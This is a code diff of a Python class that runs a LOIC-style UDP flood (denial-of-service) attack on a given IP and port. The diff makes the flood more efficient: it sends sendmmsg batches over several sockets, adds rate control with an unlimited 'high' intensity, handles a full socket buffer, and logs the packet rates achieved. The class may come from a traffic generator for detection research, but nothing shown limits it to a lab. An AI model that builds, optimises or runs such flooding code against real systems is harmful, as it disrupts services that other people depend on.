@@ -2,53 +2,84 @@
 
 import asyncio
 import logging
-import socket
-import random
 from .base_attack import BaseAttack
+from .udp_flood import UDPBatchSender
 
 logger = logging.getLogger(__name__)
 
+# Stop hogging the loop after this long without yielding
+YIELD_INTERVAL = 0.01
+
 
 class DDosLOICUDP(BaseAttack):
     """LOIC UDP flood attack"""
     
+    DEFAULT_PORT = 80
+    INTENSITY_RATES = {'low': 1000, 'medium': 10000, 'high': None}
+    
     def get_attack_type(self) -> str:
         return "DDOS attack-LOIC-UDP"
     
-    def get_default_port(self) -> int:
-        return 80
-    
     async def _udp_flood(self):
-        """Send UDP packets"""
+        """Send UDP packets in sendmmsg batches, paced by the rate controller"""
         port = self.target_port or self.get_default_port()
-        duration = self.parameters.get('duration', 300)
+        duration = self.parameters.get('duration') or 300
         packet_size = self.parameters.get('packet_size', 1024)
         
-        sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
-        payload = random.randbytes(packet_size)
+        sender = UDPBatchSender(
+            self.target_ip,
+            port,
+            payload_size=packet_size,
+            batch_size=self.parameters.get('batch_size', 64),
+            num_sockets=self.parameters.get('source_ports', 4)
+        )
         
-        start_time = asyncio.get_event_loop().time()
+        loop = asyncio.get_running_loop()
+        start_time = loop.time()
+        last_yield = start_time
         
         try:
-            while (asyncio.get_event_loop().time() - start_time) < duration:
-                for _ in range(1000):  # Send bursts
-                    try:
-                        sock.sendto(payload, (self.target_ip, port))
-                        self.packets_sent += 1
-                    except Exception:
-                        pass
+            while (now := loop.time()) - start_time < duration:
+                if now - last_yield >= YIELD_INTERVAL:
+                    await asyncio.sleep(0)
+                    last_yield = loop.time()
                 
-                if self.packets_sent % 10000 == 0:
-                    logger.info(f"LOIC-UDP: Sent {self.packets_sent} packets")
+                # Wait for a whole batch (or the most the buckets hold) so
+                # paced rates still send full sendmmsg batches
+                batch = self.rate.max_take(sender.batch_size)
+                wait = self.rate.delay(batch)
+                if wait > 0:
+                    await asyncio.sleep(wait)
+                    last_yield = loop.time()
+                    continue
                 
-                await asyncio.sleep(0.001)  # Small delay
+                count = self.rate.take(batch)
+                if count == 0:
+                    continue
+                
+                sent = sender.send(count)
+                if sent < count:
+                    self.rate.give_back(count - sent)
+                if sent == 0:
+                    # Socket buffer full - wait for the kernel to drain it
+                    await sender.wait_writable()
+                    last_yield = loop.time()
+                    continue
+                
+                self.packets_sent += sent
         finally:
-            sock.close()
+            sender.close()
         
-        logger.info(f"LOIC-UDP: Attack complete. Sent {self.packets_sent} packets")
+        elapsed = max(loop.time() - start_time, 1e-6)
+        achieved = self.packets_sent / elapsed
+        target = f"{self.rate.target:.0f} pps" if self.rate.limited else "unlimited"
+        logger.info(
+            f"LOIC-UDP: Attack complete. Sent {self.packets_sent} packets in {elapsed:.1f}s - "
+            f"achieved {achieved:.0f} pps (requested {target}, "
+            f"{sender.syscalls} syscalls, {sender.would_block} would-block, {sender.refused} refused)"
+        )
     
     async def _execute_attack(self):
         """Execute LOIC UDP attack"""
         logger.info(f"LOIC-UDP: Starting UDP flood on {self.target_ip}")
         await self._udp_flood()
-